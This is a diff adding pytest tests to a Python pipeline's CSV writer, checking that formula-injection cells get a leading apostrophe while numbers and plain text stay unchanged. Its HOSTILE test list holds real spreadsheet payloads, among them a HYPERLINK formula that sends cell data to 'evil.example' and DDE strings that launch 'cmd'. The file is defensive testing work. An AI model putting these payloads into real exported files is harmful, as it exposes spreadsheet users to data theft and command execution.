@@ -68,3 +68,58 @@ def test_a_folder_where_the_file_should_go_is_a_usage_error(tmp_path):
     (tmp_path / "file").write_text("x")
     with pytest.raises(UsageError, match="not a folder"):
         write_csv(tmp_path / "file" / "t.csv", [], ["a"])
+
+
+# -- CSV formula injection (OWASP): cells a spreadsheet would run are written with a leading "'" -----------------
+
+HOSTILE = [
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
+    "+7% in the quarter",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+twice",
+    "-",
+    "- a dash list item",
+]
+LEFT_ALONE = ["-0.2500", "-3", "-1e-05", "-.5", "0.9056", "plain text", "'apostrophe", "a=b", "−5 (U+2212 minus)", ""]
+
+
+def test_formula_cells_are_neutralised_and_read_back_exactly(tmp_path):
+    path = tmp_path / "t.csv"
+    rows = [{"text": value, "n": i} for i, value in enumerate(HOSTILE + LEFT_ALONE)]
+    write_csv(path, rows, ["text", "n"])
+    import csv as csvmod
+
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        written = [row[0] for row in csvmod.reader(handle)][1:]
+    assert written[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
+    assert written[len(HOSTILE):] == LEFT_ALONE
+    assert read_csv(path)["text"].tolist() == HOSTILE + LEFT_ALONE
+
+
+def test_neutralise_and_restore_are_inverse():
+    from pipeline.io import neutralise_cell, restore_cell
+
+    for value in HOSTILE + LEFT_ALONE + ["'", "'''", "''-1", "'-1", "=", "@"]:
+        assert restore_cell(neutralise_cell(value)) == value, value
+        assert not neutralise_cell(value).startswith(("=", "+", "@", "\t", "\r")), value
+    # A spreadsheet that keeps the "'" hands back exactly what was written; restore_cell undoes it.
+    assert restore_cell("'=1+1") == "=1+1" and restore_cell("=1+1") == "=1+1"
+
+
+def test_numbers_stay_numbers_and_negative_scores_are_not_quoted(tmp_path):
+    path = tmp_path / "t.csv"
+    write_csv(path, [{"score": -0.0312, "count": -3, "text": "-0.0312", "none": None}], ["score", "count", "text", "none"])
+    assert path.read_text(encoding="utf-8-sig") == "score,count,text,none\n-0.0312,-3,-0.0312,\n"
+
+
+def test_carriage_returns_inside_cells_are_quoted(tmp_path):
+    """A lone CR in a cell used to be written bare, and read back as a line end: the row fell apart."""
+    path = tmp_path / "t.csv"
+    rows = [{"a": "one\rtwo", "b": "x"}, {"a": "three\r\nfour", "b": "y"}, {"a": "five\nsix", "b": "z"}]
+    write_csv(path, rows, ["a", "b"])
+    frame = read_csv(path)
+    assert frame.to_dict("records") == rows
